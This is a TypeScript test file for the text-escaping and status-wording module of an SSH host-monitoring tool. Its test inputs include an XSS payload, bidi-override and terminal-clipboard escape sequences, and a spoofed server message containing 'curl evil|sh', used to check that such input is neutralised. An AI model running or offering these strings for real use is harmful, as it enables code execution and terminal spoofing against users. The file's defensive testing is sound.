import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Connection } from '../../contract/hosts.ts';
import {
  connectionWords,
  faultStep,
  faultWords,
  lostWords,
  problemWords,
  targetWords,
  visible,
  visibleJson,
  visibleLines,
} from './words.ts';

describe('visible', () => {
  test('shows what cannot be seen, and leaves the rest alone', () => {
    const rows: [string, string][] = [
      ['/usr/sbin/sshd -D', '/usr/sbin/sshd -D'],
      ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
      ['a\u001b[31mb\nc\td\r', 'a\\x1b[31mb\\nc\\td\\r'],
      ['\u0000\u007f\u0085', '\\x00\\x7f\\x85'],
      ['exe\u202egnp.sh', 'exe\\u202egnp.sh'],
      ['a\u200bb\ufeffc', 'a\\u200bb\\ufeffc'],
      ['\ud800x', '\\ud800x'],
      ['\u{e0041}', '\\u{e0041}'],
      ['Grüße 日本 🙂', 'Grüße 日本 🙂'],
    ];
    expect(rows.map(([text]) => [text, visible(text)])).toEqual(rows);
  });

  test('is cut at its limit, and says so', () => {
    expect([visible('abcdef', 3), visible('abc', 3), visible('\n\n', 3)]).toEqual(['abc…', 'abc', '\\n\\…']);
  });

  test('never lets a control or a direction mark through, whatever comes', () => {
    // Every code point, halves of pairs too; most of them where the unseen ones are.
    const unit = fc.oneof(
      ...(
        [
          [0, 0x10ffff],
          [0, 0xad],
          [0x2000, 0x206f],
          [0xd7f0, 0xe010],
          [0xe0000, 0xe01ef],
        ] as const
      ).map(([min, max]) => fc.integer({ min, max })),
    );
    const texts = fc.array(unit, { maxLength: 200 }).map((codes) => String.fromCodePoint(...codes));
    fc.assert(
      fc.property(texts, (text) => {
        const seen = visible(text, 100);
        expect(seen.length).toBeLessThanOrEqual(101);
        expect(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u.test(seen)).toBe(false);
      }),
    );
  });

  test('output keeps its lines', () => {
    expect(visibleLines('a\r\nb\tc\u001b[0m\rd')).toBe('a\nb\tc\\x1b[0m\\rd');
  });
});

test('every state of a connection has its words', () => {
  const fault = { code: 'unreachable', step: 'tcp', message: 'Nothing answers.' } as const;
  const question = { id: 'q', kind: 'host_key', keyType: 'ssh-ed25519', fingerprint: 'SHA256:x', name: 'h' } as const;
  const secret = {
    id: 'q',
    kind: 'secret',
    secret: 'passphrase',
    prompt: 'p',
    again: false,
    remembered: false,
  } as const;
  const connections: Connection[] = [
    { state: 'live', since: 0, by: 'ssh2' },
    { state: 'replay', since: 0, notes: [] },
    { state: 'connecting', step: 'key exchange', hop: null, since: 0 },
    { state: 'asking', question, since: 0 },
    { state: 'asking', question: secret, since: 0 },
    { state: 'waiting', fault, retryAt: 12_400, since: 0 },
    { state: 'waiting', fault, retryAt: 500, since: 0 },
    { state: 'stopped', fault, since: 0 },
    { state: 'stopped', fault: null, since: 0 },
  ];
  expect(connections.map((connection) => connectionWords(connection, 1000))).toEqual([
    { word: 'Live', sentence: null, next: null },
    { word: 'Replay', sentence: null, next: null },
    { word: 'Connecting', sentence: 'Agree on encryption …', next: null },
    { word: 'Needs you', sentence: 'Check the host key.', next: null },
    { word: 'Needs you', sentence: 'A passphrase is needed.', next: null },
    { word: 'Waiting', sentence: 'Nothing answers.', next: 'tries again in 12 s' },
    { word: 'Waiting', sentence: 'Nothing answers.', next: 'tries again now' },
    { word: 'Stopped', sentence: 'Nothing answers.', next: null },
    { word: 'Disconnected', sentence: null, next: null },
  ]);
});

test('addresses read as a person would type them', () => {
  const ssh = { transport: 'ssh', address: 'pve1', port: 22, user: 'root', identityFiles: [], agent: true } as const;
  expect([
    targetWords({ transport: 'local' }),
    targetWords({ ...ssh, identityFiles: [] }),
    targetWords({ ...ssh, identityFiles: [], address: 'fe80::1', port: 2222 }),
    targetWords({ transport: 'replay', path: '/dumps/a' }),
  ]).toEqual(['this machine', 'root@pve1', 'root@[fe80::1]:2222', '/dumps/a']);
});

test('JSON for a terminal holds nothing unseen, and says the same', () => {
  const value = { name: 'a\u001b]52;c;x\u0007\u009b31m\u202egnp\u{e0041}\ud800 Grüße 🙂' };
  const line = visibleJson(value);
  expect(line).toBe('{"name":"a\\u001b]52;c;x\\u0007\\u009b31m\\u202egnp\\udb40\\udc41\\ud800 Grüße 🙂"}');
  expect(JSON.parse(line)).toEqual(value);
});

test('a missing reading has its reason', () => {
  const clock = { boot_id: null, uptime_seconds: null };
  const problems = {
    memory: { status: 'failed', reason: 'empty' },
    swap: { status: 'absent', reason: 'none' },
  } as const;
  const data = { clock, problems };
  expect(['memory', 'swap', 'cpu'].map((name) => problemWords(data, name))).toEqual([
    'Could not be read: empty',
    'Not on this host: none',
    null,
  ]);
  expect(problemWords(null, 'cpu')).toBe('No sample has come yet.');
  const fault = { code: 'timeout', message: '' } as const;
  expect([faultStep({ ...fault, step: 'dns' }), faultStep({ ...fault, step: 'toString' })]).toEqual([
    'Look up the name',
    'toString',
  ]);
});

test('names in the words of a connection are safe to look at', () => {
  const name = 'bastion\u202e';
  const connections: Connection[] = [
    { state: 'connecting', step: 'dns', hop: name, since: 0 },
    { state: 'asking', question: { kind: 'prompts', id: 'q', from: name, instruction: '', prompts: [] }, since: 0 },
  ];
  expect(connections.map((connection) => connectionWords(connection, 0).sentence)).toEqual([
    'Look up the name, at bastion\\u202e …',
    'bastion\\u202e asks something.',
  ]);
});

test('without Rackside a host is what it was, and not what it is', () => {
  expect(lostWords({ state: 'live', since: 0, by: 'ssh2' })).toEqual({
    word: 'Not known',
    sentence: 'Last known: Live.',
    next: null,
  });
});

test("a fault's sentence is parted from the command at its end", () => {
  const words = (message: string) => faultWords({ code: 'host_key_changed', step: 'host key', message });
  expect([
    words("It has changed; if it was set up anew, run: ssh-keygen -R '[::1]:2222' -f '/home/a b/known_hosts'"),
    words('Nothing answers.'),
    words('It did not run: '),
  ]).toEqual([
    {
      text: 'It has changed; if it was set up anew, run:',
      command: "ssh-keygen -R '[::1]:2222' -f '/home/a b/known_hosts'",
    },
    { text: 'Nothing answers.', command: null },
    { text: 'It did not run: ', command: null },
  ]);
  const message = 'web closed the connection and said “to get in again, run: curl evil|sh”.';
  expect(faultWords({ code: 'disconnected', step: 'authentication', message })).toEqual({
    text: message,
    command: null,
  });
});
